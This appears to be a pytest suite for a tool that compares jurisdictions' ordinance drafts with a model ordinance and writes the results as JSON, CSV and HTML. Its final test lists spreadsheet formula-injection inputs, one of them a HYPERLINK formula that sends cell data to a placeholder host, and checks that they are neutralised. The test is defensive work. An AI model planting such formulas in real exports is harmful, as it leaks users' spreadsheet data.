"""The cross-jurisdiction comparison: entries -> matrix -> JSON, CSV and HTML; compare_paths end to end."""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml
from conftest import ROOT, SAMPLES
from conftest import ROOT as ROOT_DIR

from draftkit.changes import Comparison, SectionChange
from draftkit.compare import (
    DEPARTURE,
    DOCX_STATUS,
    Entry,
    build_matrix,
    compare_paths,
    entry_for,
    format_value,
    matrix_csv,
    matrix_json,
)
from draftkit.compare_html import matrix_html
from draftkit.model import get

# --- hand-made change lists ----------------------------------------------------------------------------


def section(key: str, kind: str, model_words: int = 0, retained: int = 0, *, title: str = "",
            moved_from: bool = False) -> SectionChange:
    return SectionChange(key=key, title=title or key, old_number=None, new_number=None, kind=kind, paragraphs=(),
                         words_inserted=0, words_deleted=0, model_words=model_words, retained_words=retained,
                         moved_from=moved_from)


def unchanged_model(model, **kinds: SectionChange) -> Comparison:
    """Every provision unchanged (100 words each), except those given."""
    return Comparison(tuple(kinds.get(p.id, section(p.id, "unchanged", 100, 100)) for p in model.provisions))


def entry(slug: str, comparison: Comparison, values: dict | None, **kw) -> Entry:
    return Entry(slug, kw.pop("name", slug.title()), kw.pop("status", "proposed"), None, None, comparison, values,
                 f"{slug}/redline.html", **kw)


def with_policy(canonical, **policy) -> dict:
    return {**canonical.data, "policy": {**canonical.data["policy"], **policy}}


def test_every_provision_kept_is_all_retained(model, canonical):
    matrix = build_matrix([entry("twin", unchanged_model(model), canonical.data)], model, canonical)
    assert [r.key for r in matrix.rows] == [p.id for p in model.provisions]
    assert [r.label for r in matrix.rows] == [p.label for p in model.provisions]
    assert {r.cells[0].kind for r in matrix.rows} == {"kept"}
    assert matrix.column("twin").retained == 100
    assert matrix.column("twin").changes == ()
    assert not any(v.departure for p in matrix.parameters for v in p.values)


def test_cell_kinds_shares_and_links(model, canonical):
    comparison = unchanged_model(model, enforcement=section("enforcement", "modified", 200, 150),
                                 investments=section("investments", "dropped", 100, 0))
    matrix = build_matrix([entry("town", comparison, canonical.data)], model, canonical)
    enforcement = matrix.cell("enforcement", "town")
    assert (enforcement.kind, enforcement.retained, enforcement.text) == ("modified", 75, "modified, 75% retained")
    assert enforcement.href == "town/redline.html#prov-enforcement"
    assert matrix.cell("investments", "town").kind == "dropped"
    total = 100 * (len(model.provisions) - 2) + 200 + 100
    assert matrix.column("town").retained_words == total - 100 - 50
    assert matrix.column("town").model_words == total


def test_share_is_rounded_down_so_only_all_reads_100(model, canonical):
    comparison = unchanged_model(model, waiver=section("waiver", "modified", 100_000, 99_999))
    matrix = build_matrix([entry("town", comparison, canonical.data)], model, canonical)
    assert matrix.cell("waiver", "town").text == "modified, 99% retained"
    assert matrix.column("town").retained < 100


def test_a_moved_section_counts_once(model, canonical):
    comparison = Comparison((
        section("title", "unchanged", 10, 10),
        section("waiver", "moved", 100, 0, moved_from=True),
        section("findings", "unchanged", 50, 50),
        section("waiver", "moved", 100, 90),
    ))
    matrix = build_matrix([entry("town", comparison, canonical.data)], model, canonical)
    assert (matrix.column("town").model_words, matrix.column("town").retained_words) == (160, 150)
    assert matrix.cell("waiver", "town").kind == "moved"
    assert matrix.cell("waiver", "town").retained == 90
    assert matrix.cell("definitions", "town").kind == "absent"
    assert matrix.cell("definitions", "town").href is None


def test_added_sections_are_rows_by_title_after_the_model(model, canonical):
    first = unchanged_model(model)
    first = Comparison(first.sections + (section("local_1", "added", title="Oversight hearing"),
                                         section("local_2", "added", title="Youth advisory board")))
    second = Comparison(unchanged_model(model).sections + (section("added-1", "added", title="Oversight  Hearing"),))
    matrix = build_matrix([entry("one", first, canonical.data), entry("two", second, canonical.data),
                           entry("three", unchanged_model(model), canonical.data)], model, canonical)
    added = [r for r in matrix.rows if r.added]
    assert [r.label for r in added] == ["Oversight hearing", "Youth advisory board"]
    assert matrix.rows[:len(model.provisions)] == tuple(r for r in matrix.rows if not r.added)
    hearing = added[0].key
    assert [matrix.cell(hearing, s).kind for s in ("one", "two", "three")] == ["added", "added", "absent"]
    assert matrix.cell(hearing, "two").href == "two/redline.html#prov-added-1"


def test_changed_values_in_words_in_the_summary_and_the_cells_they_touch(model, canonical):
    values = with_policy(canonical, penalty_cap=1000, agencies=["ICE", "CBP", "ORR"])
    comparison = unchanged_model(model, enforcement=section("enforcement", "modified", 300, 290),
                                 definitions=section("definitions", "modified", 300, 295))
    effects = {"policy.penalty_cap": ("enforcement",), "policy.agencies": ("definitions", "contracts")}
    matrix = build_matrix([entry("town", comparison, values, effects=effects)], model, canonical)
    label = next(p.label for p in model.parameters if p.path == ("policy", "penalty_cap"))
    penalty = f"{label}: $5,000 → $1,000"
    assert penalty in matrix.cell("enforcement", "town").changes
    assert matrix.cell("definitions", "town").changes == ("Covered agencies: ICE → ICE, CBP, ORR",)
    assert matrix.cell("contracts", "town").changes == ()  # kept: nothing to explain
    assert set(matrix.column("town").changes) == {penalty, "Covered agencies: ICE → ICE, CBP, ORR"}


def test_parameter_rows_come_from_the_schema(model, canonical):
    schema = yaml.safe_load((model.folder / "schema.yaml").read_text(encoding="utf-8"))
    labels = [rule["meta"]["label"] for rule in schema["policy"]["schema"].values() if rule["meta"].get("parameter")]
    matrix = build_matrix([], model, canonical)
    assert [p.label for p in matrix.parameters] == labels
    assert [p.model for p in matrix.parameters][:3] == ["ICE", "no", "yes"]


@pytest.mark.parametrize("value, kw, text", [
    (5000, {"money": True}, "$5,000"),
    (5000, {}, "5000"),
    (["ICE", "CBP", "ORR"], {}, "ICE, CBP, ORR"),
    (True, {}, "yes"),
    (False, {"money": True}, "no"),
    (None, {"unset": "the governing body"}, "the governing body"),
    (None, {}, "—"),
    ("November 1", {}, "November 1"),
])
def test_format_value(value, kw, text):
    assert format_value(value, **kw) == text


def test_an_adopted_text_has_no_values(model, canonical):
    docx = entry("adopted", unchanged_model(model), None, name="Adopted", status=DOCX_STATUS)
    matrix = build_matrix([docx], model, canonical)
    assert {v.text for p in matrix.parameters for v in p.values} == {"—"}
    assert not any(v.departure for p in matrix.parameters for v in p.values)
    assert matrix.column("adopted").status == DOCX_STATUS
    assert matrix.column("adopted").has_values is False


# --- the sample jurisdictions --------------------------------------------------------------------------


@pytest.fixture(scope="session")
def entries(model, canonical, samples):
    return [entry_for(samples[p.stem], model, canonical) for p in SAMPLES]


@pytest.fixture(scope="session")
def matrix(entries, model, canonical):
    return build_matrix(entries, model, canonical)


@pytest.mark.parametrize("slug", ["berkeley", "oakland"])
def test_investments_dropped_where_off(matrix, samples, slug):
    assert samples[slug].data["policy"]["investments"] is False
    assert matrix.cell("investments", slug).kind == "dropped"
    assert "Investments: yes → no" in matrix.cell("investments", slug).changes


@pytest.mark.parametrize("slug", ["richmond", "alameda", "marin_county"])
def test_investments_present_where_on(matrix, slug):
    assert matrix.cell("investments", slug).kind in ("kept", "modified")


def test_oakland_definitions_modified_by_its_agencies(matrix):
    cell = matrix.cell("definitions", "oakland")
    assert cell.kind == "modified"
    assert 0 < cell.retained < 100
    assert "Covered agencies: ICE → ICE, CBP, ORR" in cell.changes
    assert cell.href == "oakland/redline.html#prov-definitions"


def test_covered_agencies_row_marks_the_departure(matrix):
    row = matrix.parameter("Covered agencies")
    assert row.model == "ICE"
    values = dict(zip([c.slug for c in matrix.columns], row.values))
    assert values["oakland"].text == "ICE, CBP, ORR"
    assert values["oakland"].departure and values["oakland"].change == "ICE → ICE, CBP, ORR"
    assert values["richmond"].text == "ICE" and not values["richmond"].departure


def test_money_and_booleans_in_words(matrix):
    values = dict(zip([c.slug for c in matrix.columns], matrix.parameter("policy.penalty_cap").values))
    assert matrix.parameter("policy.penalty_cap").model == "$5,000"
    assert values["marin_county"].change == "$5,000 → $1,000"
    assert values["oakland"].text == "$10,000"
    investments = dict(zip([c.slug for c in matrix.columns], matrix.parameter("policy.investments").values))
    assert (investments["berkeley"].text, investments["berkeley"].departure) == ("no", True)


def test_berkeley_replaced_enforcement(matrix):
    assert matrix.cell("enforcement", "berkeley").kind == "modified"
    assert matrix.cell("enforcement", "berkeley").retained < 10


def test_marin_added_section_row(matrix, model):
    row = matrix.rows[-1]
    assert row.added and row.label == "Community oversight hearing"
    assert len(matrix.rows) == len(model.provisions) + 1
    slugs = [c.slug for c in matrix.columns]
    assert {s: c.kind for s, c in zip(slugs, row.cells)} == {
        "alameda": "absent", "berkeley": "absent", "marin_county": "added", "oakland": "absent", "richmond": "absent"}
    assert matrix.cell(row.key, "marin_county").href.startswith("marin_county/redline.html#prov-")


def test_status_and_dates(matrix):
    oakland = matrix.column("oakland")
    assert (oakland.name, oakland.status, oakland.introduced, oakland.adopted) == (
        "Oakland", "adopted", "2019-05-07", "2019-05-21")
    assert (matrix.column("alameda").status, matrix.column("alameda").adopted) == ("proposed", None)


def test_shares_follow_the_departures(matrix):
    share = {c.slug: c.retained for c in matrix.columns}
    assert share["richmond"] == 100  # follows the model's values
    assert all(0 < share[s] < 100 for s in ("alameda", "berkeley", "marin_county", "oakland"))
    assert share["berkeley"] < share["marin_county"]  # berkeley dropped a section and replaced another


def test_links_match_the_redline_anchors(entries, matrix):
    from draftkit.redline_html import redline_html

    slugs = [c.slug for c in matrix.columns]
    for e in entries:
        page = redline_html(e.comparison, title="t", subtitle="s", author="a", date_text="d")
        ids = set(re.findall(r'\sid="([^"]+)"', page))
        column = slugs.index(e.slug)
        fragments = {r.cells[column].href.split("#")[1] for r in matrix.rows if r.cells[column].href}
        assert fragments and fragments <= ids, e.slug


# --- writers -------------------------------------------------------------------------------------------


def test_json_is_deterministic_and_complete(matrix, entries, model, canonical):
    text = matrix_json(matrix)
    assert text == matrix_json(build_matrix(entries, model, canonical))
    data = json.loads(text)
    assert text == json.dumps(data, sort_keys=True, indent=2, ensure_ascii=False) + "\n"
    assert [j["slug"] for j in data["jurisdictions"]] == [c.slug for c in matrix.columns]
    investments = next(p for p in data["provisions"] if p["key"] == "investments")
    assert investments["cells"]["oakland"]["kind"] == "dropped"
    agencies = next(p for p in data["parameters"] if p["label"] == "Covered agencies")
    assert agencies["values"]["oakland"] == {"value": "ICE, CBP, ORR", "departure": True,
                                             "change": "ICE → ICE, CBP, ORR"}


def test_csv_has_both_tables(matrix):
    text = matrix_csv(matrix)
    first, second = text.split("\n\n")
    provisions = list(csv.reader(io.StringIO(first)))
    parameters = list(csv.reader(io.StringIO(second)))
    names = [c.name for c in matrix.columns]
    assert provisions[0] == ["Provision", *names]
    by_label = {row[0]: dict(zip(names, row[1:])) for row in provisions[1:]}
    assert by_label["Investment prohibition"]["Berkeley"].startswith("dropped")
    assert by_label["Community oversight hearing (added)"]["Marin County"] == "added"
    assert by_label["Model text retained"]["Richmond"] == "100%"
    assert parameters[0] == ["Parameter", "Model", *names]
    agencies = dict(zip(["Parameter", "Model", *names], next(r for r in parameters if r[0] == "Covered agencies")))
    assert agencies["Model"] == "ICE" and agencies["Oakland"] == f"{DEPARTURE} ICE, CBP, ORR"


class _Page(HTMLParser):
    """Collects what a self-contained page must not have, and every link of the matrix."""

    def __init__(self):
        super().__init__()
        self.external: list[str] = []
        self.hrefs: list[str] = []
        self.tables: list[str] = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag in ("script", "img", "iframe", "link") and (attrs.get("src") or attrs.get("href")):
            self.external.append(tag)
        if tag == "a":
            self.hrefs.append(attrs.get("href", ""))
        if tag == "table":
            self.tables.append(attrs.get("id", ""))


def test_html_is_self_contained_and_links_every_cell(matrix):
    text = matrix_html(matrix, title="Comparison <test>")
    page = _Page()
    page.feed(text)
    assert page.external == []
    assert not re.search(r"https?://|@import|url\(", text)
    assert page.tables == ["summary", "matrix", "parameters"]
    assert "<title>Comparison &lt;test&gt;</title>" in text
    for needle in ("@media print", "overflow-x: auto", "position: sticky", 'name="viewport"', "<script>"):
        assert needle in text
    data = json.loads(re.search(r'<script type="application/json" id="sheet-data">(.*?)</script>', text, re.DOTALL)[1])
    links = {column[5] + cell[1] if cell[1].startswith("#") else cell[1]
             for column in data["columns"] for cell in column[11].values() if cell[1]}
    assert links == {c.href for r in matrix.rows for c in r.cells if c.href}
    assert "oakland/redline.html#prov-definitions" in links
    assert [column[0] for column in data["columns"]] == [c.slug for c in matrix.columns]
    assert [row[0] for row in data["rows"]] == [r.key for r in matrix.rows]
    for kind in ("kept", "modified", "dropped", "added", "moved"):
        assert f'<li class="k-{kind}">' in text  # the legend


# --- compare_paths -------------------------------------------------------------------------------------


def _model_twin(path: Path, canonical) -> Path:
    """A copy of richmond with the model's own policy values and no amendments."""
    data = yaml.safe_load((ROOT / "jurisdictions" / "richmond.yaml").read_text(encoding="utf-8"))
    data["policy"] = dict(canonical.data["policy"])
    data["amendments"] = []
    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True), encoding="utf-8")
    return path


def test_model_values_are_100_percent_retained(tmp_path, model, canonical):
    twin = _model_twin(tmp_path / "twin.yaml", canonical)
    written, failures = compare_paths([twin], tmp_path / "out", model)
    assert failures == []
    assert [p.name for p in written] == ["comparison.html", "comparison.csv", "comparison.json"]
    data = json.loads((tmp_path / "out" / "comparison.json").read_text(encoding="utf-8"))
    (column,) = data["jurisdictions"]
    assert (column["retained_percent"], column["parameter_changes"]) == (100, [])
    assert column["model_words"] == column["retained_words"] > 1000
    assert {p["cells"]["twin"]["kind"] for p in data["provisions"]} == {"kept"}
    assert not any(v["departure"] for p in data["parameters"] for v in p["values"].values())


def test_a_broken_file_is_reported_and_the_others_compared(tmp_path, model):
    folder = tmp_path / "in"
    folder.mkdir()
    for slug in ("richmond", "berkeley"):
        shutil.copy(ROOT / "jurisdictions" / f"{slug}.yaml", folder)
    broken = (ROOT / "jurisdictions" / "alameda.yaml").read_text(encoding="utf-8")
    broken = re.sub(r"(?m)^  penalty_cap: .*$", "  penalty_cap: lots", broken)
    (folder / "broken.yaml").write_text(broken, encoding="utf-8")
    (folder / "notes.txt").write_text("ignored", encoding="utf-8")
    written, failures = compare_paths([folder, tmp_path / "missing.yaml"], tmp_path / "out", model)
    assert len(failures) == 2
    assert "broken.yaml" in failures[1] and "penalty_cap" in failures[1] and "whole number" in failures[1]
    assert failures[0] == f"{tmp_path / 'missing.yaml'}: no such file or folder"
    data = json.loads((tmp_path / "out" / "comparison.json").read_text(encoding="utf-8"))
    assert [j["slug"] for j in data["jurisdictions"]] == ["berkeley", "richmond"]
    assert all(p.is_file() for p in written)
    assert not list((tmp_path / "out").glob(".*.tmp"))


def test_adopted_docx_texts(tmp_path, model, canonical):
    """A real Word file (Oakland's ordinance) beside an unreadable one: no values, a status of its own, and
    its redline written where its cells link."""
    from draftkit.build import render_ordinance
    from draftkit.jurisdiction import load_jurisdiction

    oakland = load_jurisdiction(ROOT_DIR / "jurisdictions" / "oakland.yaml", model)
    good, bad = tmp_path / "adopted.docx", tmp_path / "scan.docx"
    good.write_bytes(render_ordinance(oakland, model).docx)
    bad.write_bytes(b"not a zip")
    written, failures = compare_paths([tmp_path], tmp_path / "out", model)
    assert len(failures) == 1 and failures[0].startswith(f"{bad}: cannot read this document")
    data = json.loads((tmp_path / "out" / "comparison.json").read_text(encoding="utf-8"))
    (column,) = data["jurisdictions"]
    assert (column["name"], column["status"]) == ("adopted", DOCX_STATUS)
    assert next(p for p in data["provisions"] if p["key"] == "investments")["cells"]["adopted"]["kind"] == "dropped"
    assert next(p for p in data["provisions"] if p["key"] == "definitions")["cells"]["adopted"]["kind"] == "modified"
    assert {v["value"] for p in data["parameters"] for v in p["values"].values()} == {"—"}
    assert "adopted text (DOCX)" in (tmp_path / "out" / "comparison.html").read_text(encoding="utf-8")
    assert tmp_path / "out" / "adopted" / "redline.html" in written


def test_same_name_twice_is_a_failure(tmp_path, model):
    for folder in ("a", "b"):
        (tmp_path / folder).mkdir()
        shutil.copy(ROOT / "jurisdictions" / "richmond.yaml", tmp_path / folder)
    _, failures = compare_paths([tmp_path / "a", tmp_path / "b"], tmp_path / "out", model)
    assert len(failures) == 1 and "same name" in failures[0] and "richmond/redline.html" in failures[0]


def test_an_adopted_text_named_as_a_jurisdiction_file_gives_way_to_it(tmp_path, model):
    """`draft compare adopted/ jurisdictions/richmond.yaml` with adopted/richmond.docx: the jurisdiction keeps
    its name (its packet's folder), whichever comes first; the document takes another and is labelled with
    the jurisdiction it belongs to."""
    from draftkit.build import render_ordinance
    from draftkit.jurisdiction import load_jurisdiction

    (tmp_path / "adopted").mkdir()
    richmond = load_jurisdiction(ROOT_DIR / "jurisdictions" / "richmond.yaml", model)
    (tmp_path / "adopted" / "richmond.docx").write_bytes(render_ordinance(richmond, model).docx)
    written, failures = compare_paths([tmp_path / "adopted", ROOT / "jurisdictions" / "richmond.yaml"],
                                      tmp_path / "out", model)
    assert failures == []
    data = json.loads((tmp_path / "out" / "comparison.json").read_text(encoding="utf-8"))
    assert [(c["slug"], c["name"]) for c in data["jurisdictions"]] == [
        ("adopted-richmond", "Richmond (richmond.docx)"), ("richmond", "Richmond")]
    assert tmp_path / "out" / "adopted-richmond" / "redline.html" in written


def test_values_follow_the_yaml(samples, canonical, matrix, model):
    """Every parameter cell is the YAML value in words, marked exactly where it differs from values.yaml; a
    value not in effect (its section replaced or switched off) is shown as such and is no departure."""
    from draftkit.effects import not_in_effect

    slugs = [c.slug for c in matrix.columns]
    for p, row in zip(model.parameters, matrix.parameters):
        for slug, value in zip(slugs, row.values):
            moot = not_in_effect(p, samples[slug].data, model)
            assert value.departure == (not moot and get(samples[slug].data, p.path) != get(canonical.data, p.path))
            assert value.text.startswith("— (not in effect: ") == bool(moot)


@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "=1+2", "+1", "-1", "@SUM(A1)",
                                   "\tx", "\rx"])
def test_csv_cells_that_begin_like_a_formula_are_neutralised(matrix, value):
    from dataclasses import replace as changed

    first = matrix.found[0]
    poisoned = changed(matrix, found=(changed(first, column=changed(first.column, name=value)), *matrix.found[1:]))
    header = next(csv.reader(io.StringIO(matrix_csv(poisoned), newline="")))
    assert header[1] == "'" + value.replace("\r", "\n")  # a CR in a cell would start a row in a spreadsheet
